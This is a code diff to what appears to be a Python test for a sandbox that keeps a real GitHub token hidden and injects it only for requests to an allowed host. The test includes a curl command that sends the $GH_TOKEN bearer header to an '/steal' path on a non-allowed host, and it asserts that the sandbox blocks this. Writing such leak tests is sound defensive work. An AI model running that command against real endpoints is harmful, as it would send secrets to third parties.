@@ -83,6 +83,8 @@ def test_https_rules_and_placeholders_inside_exec(
             f"https://secure.test:{bound.port}/api",
             f"{curl} -o /dev/null -w '%{{http_code}}\\n' -H \"Authorization: Bearer $GH_TOKEN\" "
             f"https://other.test:{other.port}/steal",
+            'python3 -I -c "import urllib.request as u; '
+            f"print(u.urlopen('https://secure.test:{bound.port}/py').read().decode().strip())\"",
             "env",
         ]
     )
@@ -95,11 +97,14 @@ def test_https_rules_and_placeholders_inside_exec(
     placeholder = lines[0].removeprefix("token=")
     assert lines[1] == f"GET /api auth=Bearer {placeholder}", out.stdout + out.stderr
     assert lines[3:5] == ["403", "403"], out.stdout
+    # Python's urllib trusts the run's CA through SSL_CERT_FILE / the system bundle.
+    assert lines[5] == "GET /py auth=", out.stdout + out.stderr
     # The bound host got the real value (Bearer, and inside Basic as git sends it).
     basic = base64.b64encode(f"x-access-token:{real}".encode()).decode()
     assert [(h.path, h.headers.get("authorization")) for h in bound.hits] == [
         ("/api", f"Bearer {real}"),
         ("/git", f"Basic {basic}"),
+        ("/py", None),
     ]
     assert other.hits == []
     # The real value is nowhere the sandbox or the journal could show it.
